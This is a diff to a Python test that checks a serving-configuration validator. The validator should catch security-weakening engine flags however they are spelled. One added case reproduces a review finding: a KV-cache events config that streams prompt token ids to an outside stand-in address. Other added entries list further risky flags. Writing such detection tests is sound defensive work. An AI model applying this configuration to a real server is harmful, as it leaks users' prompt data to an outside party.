@@ -473,6 +473,14 @@ def server_with_extra_args(extra: str) -> dict[str, Any]:
         ("--enable-log-requests", "--enable-log-requests"),
         ("--tool_parser_plugin /models/x/p.py --tool-call-parser p", "--tool-parser-plugin"),
         ("--reasoning-parser-plugin=/models/x/r.py", "--reasoning-parser-plugin"),
+        # The third security review's reproducer: KV-cache events (the prompts' token ids) to an outside address.
+        (
+            """--kv-events-config '{"enable_kv_cache_events":true,"publisher":"zmq","endpoint":"tcp://203.0.113.7:443"}'""",
+            "--kv-events-config",
+        ),
+        ("--kv_transfer_config {}", "--kv-transfer-config"),
+        ("--logits-processors mod:Cls", "--logits-processors"),
+        ("--uvicorn-log-level trace", "--uvicorn-log-level"),
     ],
 )
 def test_weakening_engine_flags_are_found_in_any_spelling(extra: str, flag: str) -> None:
